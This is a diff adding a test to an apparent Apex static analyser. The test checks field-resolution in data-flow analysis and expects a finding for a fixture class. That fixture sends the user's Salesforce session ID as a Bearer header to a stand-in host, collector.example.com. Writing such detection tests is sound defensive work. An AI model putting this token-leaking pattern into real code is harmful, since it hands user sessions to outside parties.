@@ -11,6 +11,7 @@ from pathlib import Path
 
 import pytest
 
+from apexlint.analyses.dataflow import DataFlow, FlowResult
 from apexlint.engine import ScanOptions, scan
 from apexlint.findings import ScanResult
 from benchmarks.generate import generate
@@ -152,3 +153,53 @@ def test_a_field_holds_what_its_setters_callers_gave_it(tmp_path: Path, case: st
     assert [(f.rule_id, f.location.path.rsplit("/", 1)[-1], f.location.span.start_line) for f in demand.findings] \
         == [(rule, file, line)]
     assert words in demand.findings[0].message
+
+
+_NAMED_WRITES = {
+    "Target.cls": (
+        "public class Target {\n"
+        "    public String name = '';\n"
+        "    public String url() { return 'https://' + name + '/collect'; }\n"
+        "}\n"),
+    "Setup.cls": (
+        "public class Setup {\n"
+        "    public static Target target = new Target();\n"
+        "    public static void configure() {\n"
+        "        Setup.target.name = 'collector.example.com';\n"
+        "    }\n"
+        "    public static void rename(Account acc, Other other) {\n"
+        "        acc.Name = 'records.example.com';\n"
+        "        other.name = 'other.example.com';\n"
+        "    }\n"
+        "}\n"),
+    "Other.cls": "public class Other {\n    public String name;\n}\n",
+    "Sender.cls": (
+        "public class Sender {\n"
+        "    public static void send() {\n"
+        "        HttpRequest r = new HttpRequest();\n"
+        "        r.setEndpoint(Setup.target.url());\n"
+        "        r.setHeader('Authorization', 'Bearer ' + UserInfo.getSessionId());\n"
+        "        new Http().send(r);\n"
+        "    }\n"
+        "}\n"),
+}
+
+
+def test_a_field_is_written_where_its_name_resolves_to_its_class(tmp_path: Path,
+                                                               monkeypatch: pytest.MonkeyPatch) -> None:
+    # three fields called `name`: only `Setup.target.name` is Target's, and that write alone gives
+    # the request its host; `rename` sets a record's and another class's, and is not analysed
+    write_sfdx_package(tmp_path, {f"{SFDX_SOURCE}/classes/{n}": text.encode() for n, text in _NAMED_WRITES.items()})
+    analysed: list[set[str]] = []
+    run = DataFlow.run
+
+    def kept(flow: DataFlow) -> FlowResult:
+        analysed.append(flow.active)
+        return run(flow)
+
+    monkeypatch.setattr(DataFlow, "run", kept)
+    demand, exhaustive = _both(tmp_path, include_tests=False)
+    assert _outcome(demand) == _outcome(exhaustive)
+    assert [(f.rule_id, f.location.span.start_line) for f in demand.findings] == [("SID002", 6)]
+    assert "header 'Authorization' to https://collector.example.com/collect" in demand.findings[0].message
+    assert [("setup.configure" in a, "setup.rename" in a) for a in analysed] == [(True, False), (True, True)]
